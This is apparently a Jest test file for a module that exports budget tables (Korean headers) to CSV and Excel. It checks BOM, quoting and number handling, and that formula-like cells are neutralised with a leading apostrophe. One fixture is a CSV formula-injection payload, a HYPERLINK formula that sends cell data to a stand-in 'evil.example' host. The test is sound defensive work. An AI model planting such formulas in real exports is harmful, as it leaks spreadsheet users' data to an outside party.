import ExcelJS from 'exceljs';
import { csvCell, toCsv, toXlsx } from './tables.js';

const sheets = [
  {
    name: '예산',
    columns: [
      { key: 'a', header: '항목' },
      { key: 'b', header: '금액(원)' },
    ],
    rows: [
      { a: '배정, 총액', b: 250_000_000n },
      { a: '집행 "완료"', b: 0 },
    ],
  },
];

describe('report tables', () => {
  it('writes CSV with a BOM, Korean headers and quoted cells', () => {
    const csv = toCsv(sheets);
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.subarray(3).toString('utf8')).toBe(
      '예산\r\n항목,금액(원)\r\n"배정, 총액",250000000\r\n"집행 ""완료""",0\r\n',
    );
  });

  it('writes a workbook Excel reads back, numbers as numbers', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await toXlsx(sheets)) as never);
    const ws = book.getWorksheet('예산')!;
    expect(ws.getRow(1).values).toEqual([undefined, '항목', '금액(원)']);
    expect(ws.getRow(2).getCell(2).value).toBe(250_000_000);
  });
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  it('get a leading apostrophe: = + - @, tab and carriage return', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?d="&B3,"상세보기")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&B3,""상세보기"")"`,
    );
    for (const lead of ['+', '-', '@', '\t'])
      expect(csvCell(`${lead}SUM(A1:A9)`)).toBe(`'${lead}SUM(A1:A9)`);
    expect(csvCell('\rcmd')).toBe(`"'\rcmd"`);
  });

  it('leaves numbers, negative ones included, and ordinary text as they are', () => {
    expect(csvCell(-1200)).toBe('-1200');
    expect(csvCell(3_000_000n)).toBe('3000000');
    expect(csvCell('용해탱크 데이터')).toBe('용해탱크 데이터');
  });
});
